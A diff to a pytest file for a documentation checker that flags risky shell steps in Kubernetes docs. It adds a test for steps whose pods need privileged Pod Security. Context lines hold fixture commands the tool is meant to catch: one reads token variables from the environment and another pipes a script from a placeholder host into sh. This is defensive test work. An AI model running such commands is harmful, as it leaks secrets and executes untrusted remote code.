@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from verify import cli
-from verify.static.changes import ACCESS, HIDDEN, SHOWN, RevisionError, changes_since
+from verify.static.changes import ACCESS, HIDDEN, POD_SECURITY, SHOWN, RevisionError, changes_since
 
 FRONT = "---\ntitle: t\nweight: 1\nrequires: []\n---\n\n# t\n\n"
 BEFORE = FRONT + "```shell\nkubectl get pods\nkubectl get svc\n```\n"
@@ -97,3 +97,22 @@ def test_the_cli_prints_the_changes(repo: Path, capsys: pytest.CaptureFixture[st
     hidden, curl = out.index("env | grep -i token"), out.index("curl -s https://x.invalid/i.sh | sh")
     assert hidden < curl
     assert "page.md:16  (added)" in out
+
+
+def test_a_step_whose_pods_need_more_than_baseline_is_listed_first(repo: Path,
+                                                                   capsys: pytest.CaptureFixture[str]) -> None:
+    page = repo / "docs_src/ja/page.md"
+    page.write_text(AFTER.replace("requires: []\n", "requires: []\naccess:\n- reason: reads the nodes\n  verbs: [list]\n"
+                                                      "  resources: [nodes]\n")
+                    + '\n<!-- verify: pod-security=privileged reason="the DaemonSet reads the nodes\' /var/log" -->\n'
+                      "```shell\nkubectl apply -f filebeat.yaml\n```\n", encoding="utf-8")
+    changes = changes_since([page], repo, "HEAD")
+    assert changes[0].command.how == POD_SECURITY
+    assert changes[0].command.text == ("pod-security=privileged (the DaemonSet reads the nodes' /var/log): "
+                                       "kubectl apply -f filebeat.yaml")
+    assert changes[1].command.how == ACCESS
+    cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"), "--changed-since", "HEAD",
+              str(page)])
+    out = capsys.readouterr().out
+    assert "1 step(s) whose Pods need more than Pod Security baseline; 1 access rule(s)" in out
+    assert out.index("pod-security=privileged") < out.index("list nodes (core) cluster-wide")
